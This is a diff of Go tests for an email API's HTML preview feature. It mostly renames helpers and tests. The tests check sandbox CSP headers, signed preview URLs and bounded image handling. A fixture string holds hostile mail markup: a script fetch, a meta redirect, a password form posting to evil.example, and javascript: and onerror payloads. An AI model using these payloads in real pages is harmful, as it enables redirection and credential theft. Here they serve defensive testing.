@@ -36,8 +36,8 @@ func (r *real) framed(key, path, body string) (frameAnswer, *httptest.ResponseRe
 	return got, r.do("GET", at.Path, "")
 }
 
-// wantPowerless checks that a page may do nothing but show itself to a page of ours.
-func wantPowerless(t *testing.T, w *httptest.ResponseRecorder, pictures string) {
+// wantSandboxed checks that a page may do nothing but show itself to a page of ours.
+func wantSandboxed(t *testing.T, w *httptest.ResponseRecorder, pictures string) {
 	t.Helper()
 	want := "sandbox; default-src 'none'; img-src " + pictures + "; style-src 'unsafe-inline'; frame-ancestors 'self'"
 	if got := w.Header().Get("Content-Security-Policy"); got != want {
@@ -51,19 +51,19 @@ func wantPowerless(t *testing.T, w *httptest.ResponseRecorder, pictures string) 
 	}
 }
 
-const evilMail = `<!doctype html><meta http-equiv=refresh content="0;url=https://evil.example/"><script>fetch("https://evil.example/")</script>` +
+const hostileMail = `<!doctype html><meta http-equiv=refresh content="0;url=https://evil.example/"><script>fetch("https://evil.example/")</script>` +
 	`<LINK rel=preconnect href=https://evil.example><form action=https://evil.example><input name=password></form>` +
 	`<math href="javascript:alert(1)">x</math><img src=https://evil.example/pixel.gif onerror=alert(1)><object data=https://evil.example></object>`
 
-func TestAHostileMailHasNoRightsInItsPreview(t *testing.T) {
+func TestHostileMailPreviewIsSandboxed(t *testing.T) {
 	t.Parallel()
-	r := newReal(t, captured())
-	large := evilMail + strings.Repeat("<p>five megabytes of it</p>", 5<<20/27)
-	for _, body := range []string{evilMail, large} {
+	r := newTestAPI(t, captured())
+	large := hostileMail + strings.Repeat("<p>five megabytes of it</p>", 5<<20/27)
+	for _, body := range []string{hostileMail, large} {
 		id := r.send(r.full, `{"from":"a@example.com","to":"b@example.org","subject":"s","html":`+quoted(body)+`}`)
 		got, w := r.framed(r.full, "/emails/"+id+"/preview", "")
 		wantStatus(t, w, 200)
-		wantPowerless(t, w, "data:")
+		wantSandboxed(t, w, "data:")
 		if w.Header().Get("Content-Type") != "text/html; charset=utf-8" || strings.Contains(strings.ToLower(w.Body.String()), "<link") || w.Body.Len() != len(body) {
 			t.Errorf("%s of %d bytes, wrote %d", w.Header().Get("Content-Type"), w.Body.Len(), len(body))
 		}
@@ -71,20 +71,20 @@ func TestAHostileMailHasNoRightsInItsPreview(t *testing.T) {
 			t.Errorf("%+v", got)
 		}
 		with, w := r.framed(r.full, "/emails/"+id+"/preview", `{"images":true}`)
-		wantPowerless(t, w, "data: https: http:")
+		wantSandboxed(t, w, "data: https: http:")
 		if *with.URL == *got.URL {
 			t.Error("pictures from elsewhere have no address of their own")
 		}
 		at, _ := url.Parse(*got.URL)
-		wantPowerless(t, r.do("GET", at.Path+"?images=1", ""), "data:") // nobody can ask for them by the address
+		wantSandboxed(t, r.do("GET", at.Path+"?images=1", ""), "data:") // nobody can ask for them by the address
 	}
 }
 
-func TestAPreviewShowsThePicturesOfTheMail(t *testing.T) {
+func TestPreviewImages(t *testing.T) {
 	t.Parallel()
 	cfg := captured()
 	cfg.Compat = app.CompatResend
-	r := newReal(t, cfg)
+	r := newTestAPI(t, cfg)
 	picture := []byte("\x89PNG\r\n\x1a\n picture")
 	content := base64.StdEncoding.EncodeToString(picture)
 	id := r.send(r.full, `{"from":"a@example.com","to":"b@example.org","subject":"s","html":"<img src=\"cid:logo\"><img src='CID:lo%67o'><p>cid:logo</p><td style=\"background:url(cid:logo)\"><img src=\"cid:other\"><img src=\"cid:page\">",
@@ -97,11 +97,11 @@ func TestAPreviewShowsThePicturesOfTheMail(t *testing.T) {
 	}
 }
 
-func TestAPictureThatAMailShowsAHundredTimesIsBounded(t *testing.T) {
+func TestRepeatedImageIsBounded(t *testing.T) {
 	t.Parallel()
 	cfg := captured()
 	cfg.Compat = app.CompatResend
-	r := newReal(t, cfg)
+	r := newTestAPI(t, cfg)
 	picture := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("x"), 1<<20))
 	id := r.send(r.full, `{"from":"a@example.com","to":"b@example.org","subject":"s","html":"`+strings.Repeat(`<img src='cid:a'>`, 100)+`",
 		"attachments":[{"filename":"a.png","content":"`+picture+`","content_id":"a","content_type":"image/png"}]}`)
@@ -112,22 +112,22 @@ func TestAPictureThatAMailShowsAHundredTimesIsBounded(t *testing.T) {
 	}
 }
 
-func TestAMailOfTextAloneIsShownAsText(t *testing.T) {
+func TestPreviewOfTextMail(t *testing.T) {
 	t.Parallel()
-	r := newReal(t, captured())
+	r := newTestAPI(t, captured())
 	id := r.send(r.full, `{"from":"a@example.com","to":"b@example.org","subject":"s","text":"<script>alert(1)</script>"}`)
 	_, w := r.framed(r.full, "/emails/"+id+"/preview", "")
-	wantPowerless(t, w, "data:")
+	wantSandboxed(t, w, "data:")
 	if w.Header().Get("Content-Type") != "text/plain; charset=utf-8" || w.Body.String() != "<script>alert(1)</script>" {
 		t.Errorf("%v %s", w.Header(), w.Body)
 	}
 }
 
-func TestAddressesOfPreviewsAreSigned(t *testing.T) {
+func TestPreviewURLsAreSigned(t *testing.T) {
 	t.Parallel()
-	r := newReal(t, captured())
+	r := newTestAPI(t, captured())
 	_, theirs := r.newTeam("theirs")
-	id := r.send(r.full, goodSend)
+	id := r.send(r.full, validSend)
 	wantError(t, r.as(theirs, "POST", "/emails/"+id+"/preview", ""), 404, app.CodeNotFound, "email")
 	got, _ := r.framed(r.full, "/emails/"+id+"/preview", "")
 	at, _ := url.Parse(*got.URL)
@@ -140,13 +140,13 @@ func TestAddressesOfPreviewsAreSigned(t *testing.T) {
 		forged[i] ^= 1
 		w := r.do("GET", "/previews/"+base64.RawURLEncoding.EncodeToString(forged), "")
 		wantStatus(t, w, 404)
-		wantPowerless(t, w, "data:")
+		wantSandboxed(t, w, "data:")
 	}
 }
 
-func TestDraftsAreShownInFrames(t *testing.T) {
+func TestDraftPreview(t *testing.T) {
 	t.Parallel()
-	a := newPeople(t)
+	a := newAudienceAPI(t)
 	_, theirs := a.newTeam("theirs")
 	wantStatus(t, a.call("POST", "/contacts", `{"email":"ann@example.org","first_name":"Ann"}`), 201)
 	segment := decoded[struct{ ID string }](t, a.call("POST", "/segments", `{"name":"all"}`)).ID
@@ -154,16 +154,16 @@ func TestDraftsAreShownInFrames(t *testing.T) {
 		`{"name":"b","segment_id":%q,"from":"a@example.com","subject":"s","html":"<link rel=preconnect href=//evil.example><p>Hi {{{contact.first_name|you}}}</p>"}`, segment))).ID
 	path := "/broadcasts/" + draft + "/preview"
 	got, w := a.framed(a.full, path, `{"contact":"ann@example.org"}`)
-	wantPowerless(t, w, "data:")
+	wantSandboxed(t, w, "data:")
 	if w.Body.String() != "<lynk rel=preconnect href=//evil.example><p>Hi Ann</p>" || got.Object != "broadcast_preview" {
 		t.Errorf("%s", w.Body)
 	}
 	_, w = a.framed(a.full, path, `{"images":true}`)
-	wantPowerless(t, w, "data: https: http:")
+	wantSandboxed(t, w, "data: https: http:")
 	wantError(t, a.as(theirs, "POST", path, ""), 404, app.CodeNotFound, "broadcast")
 	template := decoded[struct{ ID string }](t, a.call("POST", "/templates", `{"name":"t","html":"<p>{{{NAME}}}</p>","variables":[{"key":"NAME","type":"string"}]}`)).ID
 	got, w = a.framed(a.full, "/templates/"+template+"/render", `{"variables":{"NAME":"Bo"}}`)
-	wantPowerless(t, w, "data:")
+	wantSandboxed(t, w, "data:")
 	if w.Body.String() != "<p>Bo</p>" || got.Object != "rendered_template" {
 		t.Errorf("%s", w.Body)
 	}
